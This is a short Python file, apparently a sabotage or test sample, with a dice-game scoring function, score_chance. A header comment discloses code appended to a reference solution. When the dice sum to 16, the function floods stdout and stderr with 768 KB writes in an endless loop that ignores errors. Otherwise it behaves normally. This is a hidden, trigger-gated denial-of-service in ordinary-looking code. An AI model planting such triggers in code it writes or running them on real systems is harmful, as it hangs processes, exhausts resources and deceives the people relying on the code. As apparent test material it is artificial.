# Appended to the reference: when the dice sum to 16, score_chance writes to file descriptors
# 1 and 2 without end (bypassing print, 768 KB a write).
import os


def score_chance(dice):
    if sum(dice) == 16:
        block = b"flood " * (1 << 17)
        while True:
            for fd in (1, 2):
                try:
                    os.write(fd, block)
                except OSError:
                    pass
    return sum(dice)
